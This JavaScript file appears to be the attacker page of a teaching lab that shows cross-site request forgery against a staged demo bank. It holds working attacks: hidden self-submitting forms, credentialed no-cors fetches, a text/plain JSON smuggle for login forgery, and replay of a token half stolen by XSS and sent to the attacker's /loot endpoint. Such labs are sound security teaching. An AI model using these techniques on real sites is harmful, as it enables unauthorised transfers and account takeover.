// Eve's page: whoever visits it sends requests to the bank without knowing. What her page cannot see, the bank's
// page shows.

const at = (id) => document.getElementById(id);
const { bank, neighbour } = await (await fetch("/stage")).json();
const isNeighbour = location.origin === neighbour;
const marked = (name) => `attempt=${isNeighbour ? "neighbour" : "site"}-${name}`;
const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

function list(what, came) {
  const item = document.createElement("li");
  const text = document.createElement("code");
  text.textContent = came;
  item.append(what, text);
  at("list").append(item);
}

/** A form that sends itself, into a frame that nobody sees. */
function form(path, fields, enctype = "application/x-www-form-urlencoded") {
  const frame = document.createElement("iframe");
  frame.name = `frame-${document.forms.length}`;
  const made = document.createElement("form");
  Object.assign(made, { method: "POST", action: bank + path, target: frame.name, enctype, hidden: true });
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("input");
    Object.assign(field, { name, value });
    made.append(field);
  }
  document.body.append(frame, made);
  made.submit();
}

const transfers = (name) => `/api/transfers?${marked(name)}`;
const stolen = { to: "eve", amount: "1000" };
const blind = { method: "POST", mode: "no-cors", credentials: "include" };

const ATTEMPTS = [
  ["a form", () => form(transfers("form"), stolen)],
  ["a fetch", () => fetch(bank + transfers("fetch"), { ...blind, body: new URLSearchParams(stolen) })],
  ["plain text", () => fetch(bank + transfers("text"), { ...blind, body: '{"to":"eve","amount":1000}' })],
  ["an image", () => void (new Image().src = `${bank}${transfers("image")}&${new URLSearchParams(stolen)}`)],
  [
    "your sign-in, as Eve",
    // The name of the field, an equals sign and its value are one JSON object.
    () => form(`/auth/signin?${marked("sign-in")}`, { '{"email":"eve@example.net","password":"': '"}' }, "text/plain"),
  ],
];

/** With what the script brought: the half in a header, and in a WebSocket. */
const WITH_HALF = [
  [
    "the half in a header",
    ({ half, handshake }) =>
      fetch(bank + transfers("preflight"), {
        method: "POST",
        credentials: "include",
        headers: { Authorization: `Bearer ${half}`, ...(handshake ? { Handshake: handshake } : {}) },
        body: new URLSearchParams(stolen),
      }),
  ],
  [
    "the half in a WebSocket",
    ({ half, handshake }) =>
      new Promise((resolve, reject) => {
        const protocols = [`countersign.half.${half}`];
        if (handshake) protocols.push(`countersign.handshake.${handshake}`);
        const socket = new WebSocket(`${bank.replace("http", "ws")}/api/live?${marked("socket")}`, protocols);
        socket.onopen = () => resolve("open");
        socket.onerror = () => reject(new Error("no connection"));
      }),
  ],
];

function conclude(told) {
  at("after").textContent = told;
  at("after").scrollIntoView({ block: "nearest" });
}

async function run(attempts, loot) {
  for (const [what, attempt] of attempts) {
    const came = await Promise.resolve(attempt(loot)).then(
      (answer) => (answer === "open" || answer?.type === "cors" ? "it worked!" : "sent, unseen"),
      () => "stopped by the browser",
    );
    list(what, came);
    await pause(150);
  }
  conclude("The bank's page shows what came of it.");
}

/** What her server calls what it tries. */
const TRIED = {
  half: "the half alone",
  "half-handshake": "the half, a handshake",
  "half-invented-cookie": "the half, a made-up cookie",
  "half-own-cookie": "the half, my own cookie",
  "borrowed-handshake": "my session, your handshake",
};

/** What a script brought along, in the address. */
async function received(text) {
  at("title").textContent = "Thank you!";
  at("told").textContent = "A script has brought what it found in the bank's page. My server tries it now.";
  history.replaceState(null, "", "/");
  const headers = { "Content-Type": "application/json" };
  const answer = await fetch("/loot", { method: "POST", headers, body: atob(text) });
  for (const { attempt, status, code } of await answer.json()) {
    list(TRIED[attempt], `${status} ${code ?? "it worked!"}`);
  }
  conclude("The bank's page shows what was sent.");
}

async function offer(both) {
  const loot = both ? await (await fetch("/loot")).json() : null;
  if (both && !loot) {
    at("told").textContent = "Nobody has brought me a half yet. Run the script (XSS) in the bank's page first.";
    return;
  }
  at("told").textContent = both
    ? "I have the half that the script brought. Your browser has the cookie."
    : "You know you want one.";
  at("go").hidden = false;
  at("go").addEventListener("click", async () => {
    // The button that had the focus is gone.
    at("go").hidden = true;
    at("list").focus();
    if (both) return run(WITH_HALF, loot);
    // While the click still counts: a page that follows a link at once.
    const link = window.open(`${bank}/api/account?${marked("link")}`, "_blank", "popup,width=300,height=200");
    list("a link", link ? "followed" : "stopped by the browser");
    await run(ATTEMPTS);
    link?.close();
  });
}

at("where").textContent = isNeighbour ? "same site as the bank, another origin" : "another site than the bank";
const loot = /^#loot=(.*)/.exec(location.hash)?.[1];
await (loot ? received(loot) : offer(location.hash === "#both"));
